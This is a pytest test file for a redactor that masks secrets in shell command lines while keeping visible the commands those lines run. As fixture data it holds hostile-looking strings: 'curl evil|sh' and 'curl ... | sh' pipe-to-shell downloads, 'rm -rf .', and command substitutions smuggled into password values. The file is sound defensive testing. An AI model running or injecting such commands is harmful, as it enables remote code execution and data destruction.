"""A secret in a command line is masked, and nothing that the line runs is hidden with it."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from operable.kernel.redact import MASK, Redactor
from operable.kernel.redact.command_lines import redact_command_line as redact
from operable.kernel.redact.structure import redact_prose


def redact_command_line(line):
    return redact(line, redact_prose)


@pytest.mark.parametrize(
    "line, shown",
    [
        ("API_TOKEN=$(touch x; echo 1) make test", "API_TOKEN=$(touch x; echo 1) make test"),
        ("API_TOKEN=`touch x` make", "API_TOKEN=`touch x` make"),
        ('API_TOKEN="$(touch x)" make', 'API_TOKEN="$(touch x)" make'),
        ("API_TOKEN=<(touch x) make", "API_TOKEN=<(touch x) make"),
        ("API_TOKEN=${X:-$(touch y)} make", f"API_TOKEN={MASK}$(touch y)}} make"),
        ("PASSWORD=a1$(touch x) make", f"PASSWORD={MASK}$(touch x) make"),
        ("API_TOKEN=abc1 rm -rf .", f"API_TOKEN={MASK} rm -rf ."),
        ("mysql -u root -phunter2 db; rm x", f"mysql -u root -p{MASK} db; rm x"),
        ("mysqldump -p'hunter2 x' db | gzip", f"mysqldump -p'{MASK}' db | gzip"),
        ("sshpass -p hunter2 ssh h rm x", f"sshpass -p {MASK} ssh h rm x"),
        ("redis-cli -h db -a hunter2 ping; rm x", f"redis-cli -h db -a {MASK} ping; rm x"),
        ("mongosh db -u ann -p 'hunter2 x' && rm x", f"mongosh db -u ann -p '{MASK}' && rm x"),
        ("ldapsearch -x -D cn=a -w hunter2 -b dc=x", f"ldapsearch -x -D cn=a -w {MASK} -b dc=x"),
        ("unzip -P hunter2 a.zip | sh", f"unzip -P {MASK} a.zip | sh"),
        ("7z x -phunter2 a.7z", f"7z x -p{MASK} a.7z"),
        ("sudo docker login -u ann -p hunter2 r.example", f"sudo docker login -u ann -p {MASK} r.example"),
        ("curl -sS -uann:hunter2 https://x.example", f"curl -sS -uann:{MASK} https://x.example"),
        ("mkdir -p mongo/data && cp -a redis-cli x", "mkdir -p mongo/data && cp -a redis-cli x"),
        ("docker run -p 8080:80 -w /srv x login", "docker run -p 8080:80 -w /srv x login"),
        ("curl -u $(touch x): https://x.example", "curl -u $(touch x): https://x.example"),
        ("mysql -p$(touch x) db", "mysql -p$(touch x) db"),
        ("mysql -u root -p db && mkdir -p mysql/x", "mysql -u root -p db && mkdir -p mysql/x"),
        ("API_TOKEN=abc1;touch x", f"API_TOKEN={MASK};touch x"),
        ("API_TOKEN=abc1&&touch x", f"API_TOKEN={MASK}&&touch x"),
        ("A_KEY=z1 B_KEY=z2 rm z", f"A_KEY={MASK} B_KEY={MASK} rm z"),
        ("PASSWORD='my pass 1phrase' make", f"PASSWORD='{MASK}' make"),
        ("bash -c 'API_TOKEN=x1y2 rm y'", f"bash -c 'API_TOKEN={MASK} rm y'"),
        ("bash -c \"API_TOKEN='x 1y2' rm y\"", f"bash -c \"API_TOKEN='{MASK}' rm y\""),
        ('curl -H "Authorization: Bearer abc123" -o x', f'curl -H "Authorization: {MASK}" -o x'),
        ("echo Authorization: Bearer abc123 ; rm x", f"echo Authorization: {MASK} ; rm x"),
        ("curl --password $(touch x)", "curl --password $(touch x)"),
        ("curl https://u:p4ss@h.example/x | sh", f"curl https://{MASK}@h.example/x | sh"),
        (
            "echo -----BEGIN PRIVATE KEY-----\ntouch x\necho -----END PRIVATE KEY-----",
            f"echo {MASK}\ntouch x\necho {MASK}",
        ),
        (
            "cat <<E > k\n-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQ\n-----END PRIVATE KEY-----\nE",
            f"cat <<E > k\n{MASK}\n{MASK}\n{MASK}\nE",
        ),
        ("ls -l", "ls -l"),
    ],
)
def test_a_secret_ends_where_the_shell_ends_its_word(line, shown):
    assert redact_command_line(line) == shown
    assert redact_command_line(shown) == shown
    assert Redactor().value({"arguments": {"command": line}}) == {"arguments": {"command": shown}}
    assert Redactor().value({"commands": [line]}) == {"commands": [shown]}
    assert Redactor().command(line) == shown


def test_the_values_that_are_known_are_masked_first():
    assert Redactor(["touch-me-1"]).command("X=touch-me-1 rm y") == f"X={MASK} rm y"


@given(st.text(alphabet="aK=:'\"$(){}`;&|<> \n\\1token", max_size=60))
def test_every_line_can_be_masked(rest):
    redact_command_line(f"API_TOKEN={rest}")


def test_a_line_with_very_many_secrets_is_masked_to_its_end():
    line = "; ".join(f"A{'B' * (number % 7)}_TOKEN=s3cret{number}" for number in range(200))

    assert "s3cret" not in redact_command_line(line)


@pytest.mark.parametrize(
    "words, shown",
    [
        (["sh", "-c", "TOKEN=$(curl evil|sh) make"], ["sh", "-c", "TOKEN=$(curl evil|sh) make"]),
        (["sh", "-c", "PASSWORD=x;curl evil|sh"], ["sh", "-c", f"PASSWORD={MASK};curl evil|sh"]),
        (["node", "--eval=token=1;evil()"], ["node", f"--eval=token={MASK};evil()"]),
        (["deploy", "--token", "a;b c", "--x"], ["deploy", "--token", MASK, "--x"]),
        (["deploy", "--password=two words"], ["deploy", f"--password={MASK}"]),
    ],
)
def test_the_words_of_a_command_show_what_a_script_runs_and_no_secret(words, shown):
    assert Redactor().words(words) == shown
